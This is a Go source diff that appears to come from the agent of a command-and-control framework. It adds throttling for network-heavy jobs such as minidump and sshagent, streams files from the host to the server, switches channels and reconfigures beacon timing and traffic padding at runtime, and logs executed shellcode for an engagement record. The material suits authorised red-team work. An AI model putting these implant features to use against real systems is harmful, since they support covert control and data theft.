-			}
+			})
+			tracker.Finished(job.ID, result.Stderr != "")
 		}(job)
 	}
 }
+
+// networkHeavy identifies jobs that move a lot of data or hold network connections open, which are limited by the
+// maximum number of concurrent network jobs
+func networkHeavy(job jobs.Job) bool {
+	switch job.Type {
+	case jobs.FILETRANSFER:
+		return true
+	case jobs.MODULE:
+		switch strings.ToLower(job.Payload.(jobs.Command).Command) {
+		case "link", "listener", "minidump", "share", "ssh", "sshagent":
+			return true
+		}
+	}
+	return false
+}
+
+// stream sends a large file to the server as a stream instead of reading it into a message when the client supports
+// streaming and the file is neither sealed nor routed over the data channel. It returns false when the file must be sent
+// in a message instead, including when the stream fails
+func stream(job jobs.Job) (string, bool) {
+	transfer := job.Payload.(jobs.FileTransfer)
+	clientService := client.NewClientService()
+	if seal.Sensitive("download") || !clientService.Streams() {
+		return "", false
+	}
+	info, err := os.Stat(transfer.FileLocation)
+	if err != nil || info.Size() < streamSize || exfil.Routed(int(info.Size())) {
+		return "", false
+	}
+
+	id := job.ID
+	if id == "" {
+		id = uuid.NewString()
+	}
+	s, err := commands.UploadStream(id, transfer)
+	if err != nil {
+		cli.Message(cli.WARN, fmt.Sprintf("%s, falling back to a message", err))
+		return "", false
+	}
+	defer func() {
+		if err := s.Close(); err != nil {
+			cli.Message(cli.WARN, fmt.Sprintf("there was an error closing %s: %s", transfer.FileLocation, err))
+		}
+	}()
+	err = clientService.Stream(s)
+	if err != nil {
+		cli.Message(cli.WARN, fmt.Sprintf("%s, falling back to a message", err))
+		return "", false
+	}
+	return fmt.Sprintf("Streamed %s of size %d bytes and a SHA1 hash of %x to the server as transfer %s", transfer.FileLocation, s.Header.Size, s.SHA1(), id), true
+}
+
+// Reconfigure validates the whole configuration before changing anything and then applies it to the client and the
+// Agent. The client settings are changed first because they are the only ones that can still fail; the Agent's timing
+// is then replaced in a single update. The configuration is kept so that clients built later use it
+func (s *Service) Reconfigure(c reload.Config) error {
+	err := c.Validate()
+	if err != nil {
+		return err
+	}
+	// Only a client that can be rebuilt at runtime can change its transforms
+	if c.Transforms != nil {
+		err = s.ClientService.Switchable()
+		if err != nil {
+			return fmt.Errorf("services/job.Reconfigure(): the transforms can't be changed: %s", err)
+		}
+	}
+
+	// New transforms need a new client, which is built from the Agent's current settings and only replaces the current
+	// client after it connects
+	if c.Transforms != nil {
+		settings := make(map[string]string)
+		for _, name := range channel.Settings {
+			settings[name] = config.Get(name)
+		}
+		settings["transforms"] = *c.Transforms
+		if c.Padding != nil {
+			settings["padding"] = *c.Padding
+		}
+		err = s.ClientService.Transport(config.Get("proto"), config.Get("url"), settings)
+	} else if c.Padding != nil {
+		// The padding was validated, so it parses
+		profile, _ := padding.New(*c.Padding)
+		err = s.ClientService.SetPadding(profile)
+	}
+	if err != nil {
+		return fmt.Errorf("services/job.Reconfigure(): the configuration was not applied: %s", err)
+	}
+
+	// The settings were validated, so they parse
+	a := s.AgentService.Get()
+	comms := a.Comms()
+	if c.Sleep != nil {
+		comms.Wait, _ = time.ParseDuration(*c.Sleep)
+		config.Set("sleep", *c.Sleep)
+	}
+	if c.Jitter != nil {
+		comms.Skew = *c.Jitter
+		config.Set("skew", strconv.FormatInt(*c.Jitter, 10))
+	}
+	if c.KillDate != nil {
+		comms.Kill = *c.KillDate
+		config.Set("killdate", strconv.FormatInt(*c.KillDate, 10))
+	}
+	s.AgentService.SetComms(comms)
+	if c.Padding != nil {
+		config.Set("padding", *c.Padding)
+	}
+	if c.Transforms != nil {
+		config.Set("transforms", *c.Transforms)
+	}
+	return nil
+}
+
+// switchChannel swaps in a new client built from the named channel profile's transport, transforms, and padding, and
+// then applies the profile's timing. The URLs replace the profile's, and the profile's replace the Agent's current ones.
+// Settings the profile doesn't have keep the values the Agent was started with
+func (s *Service) switchChannel(name, urls string) error {
+	p, err := channel.Get(name)
+	if err != nil {
+		return err
+	}
+	protocol := p.Settings["proto"]
+	if protocol == "" {
+		protocol = config.Get("proto")
+	}
+	if urls == "" {
+		urls = p.Settings["url"]
+	}
+	if urls == "" {
+		urls = config.Get("url")
+	}
+
+	err = s.ClientService.Transport(protocol, urls, p.Settings)
+	if err != nil {
+		return err
+	}
+
+	// The profile was validated when it was added, so its timing parses
+	var timing reload.Config
+	if value, ok := p.Settings["sleep"]; ok {
+		timing.Sleep = &value
+	}
+	if value, ok := p.Settings["skew"]; ok {
+		skew, _ := strconv.ParseInt(value, 10, 64)
+		timing.Jitter = &skew
+	}
+	if len(timing.Settings()) > 0 {
+		err = s.Reconfigure(timing)
+		if err != nil {
+			return err
+		}
+	}
+
+	for setting, value := range p.Settings {
+		config.Set(setting, value)
+	}
+	config.Set("proto", strings.ToLower(protocol))
+	config.Set("url", urls)
+	config.Set("channel", p.Name)
+	channel.SetCurrent(p.Name)
+	return nil
+}
+
+// exportConfig returns the Agent's effective configuration, including the settings that were changed after it started,
+// in a format that can be re-used to build new Agents
+func exportConfig() (result jobs.Results) {
+	data, err := config.Export(currentSettings())
+	if err != nil {
+		result.Stderr = err.Error()
+		return
+	}
+	result.Stdout = string(data)
+	return
+}
+
+// currentSettings returns the values, keyed by command line flag name, of the settings that can be changed after the Agent
+// started and aren't kept in the configuration when they are
+func currentSettings() map[string]string {
+	a := agent.NewAgentService().Get()
+	window, action := deadman.Contract()
+	target, threshold := exfil.Channel()
+	current := map[string]string{
+		"chunksize":     strconv.Itoa(chunk.Size()),
+		"deadman":       window.String(),
+		"deadmanaction": action.String(),
+		"exfil":         target,
+		"exfilmin":      strconv.Itoa(threshold),
+		"interpreter":   commands.GetInterpreter(),
+		"jobrate":       strconv.Itoa(governor.Rate()),
+		"killdate":      strconv.FormatInt(a.KillDate(), 10),
+		"maxretry":      strconv.Itoa(a.MaxRetry()),
+		"netjobs":       strconv.Itoa(governor.Concurrent()),
+		"skew":          strconv.FormatInt(a.Skew(), 10),
+		"sleep":         a.Wait().String(),
+	}
+	// Not every client supports every setting; unsupported settings keep the value the Agent started with
+	c := client.NewClientService().Get()
+	for name, key := range map[string]string{"backup": "backup", "p2pjitter": "jitter", "p2psleep": "sleep", "parrot": "parrot", "rotation": "rotation", "throttle": "throttle"} {
+		value := c.Get(key)
+		if !strings.HasPrefix(value, "unknown client configuration setting") {
+			current[name] = value
+		}
+	}
+	return current
+}
+
+// recordJob adds the job's command, arguments, and any shellcode it executes to the engagement record
+func recordJob(job jobs.Job) {
+	switch job.Type {
+	case jobs.CMD, jobs.MODULE, jobs.NATIVE:
+		record.Command(job.ID, command(job), job.Payload.(jobs.Command).Args)
+	case jobs.FILETRANSFER:
+		record.Command(job.ID, command(job), []string{job.Payload.(jobs.FileTransfer).FileLocation})
+	case jobs.SHELLCODE:
+		shellcode := job.Payload.(jobs.Shellcode)
+		record.Command(job.ID, command(job), []string{shellcode.Method, strconv.FormatUint(uint64(shellcode.PID), 10)})
+		data, err := base64.StdEncoding.DecodeString(shellcode.Bytes)
+		if err == nil {
+			record.Artifact(job.ID, "executed", "", data)
+		}
+	}
+}
+
+// command returns the name of the command a job runs, used to identify jobs with sensitive results.
+// File transfers from the Agent to the server use the operator's "download" command name
+func command(job jobs.Job) string {
+	switch job.Type {
+	case jobs.CMD, jobs.MODULE, jobs.NATIVE:
+		return job.Payload.(jobs.Command).Command
+	case jobs.FILETRANSFER:
+		if job.Payload.(jobs.FileTransfer).IsDownload {
+			return "upload"
+		}
+		return "download"
+	case jobs.SHELLCODE:
+		return "shellcode"
+	default:
+		return ""
+	}
+}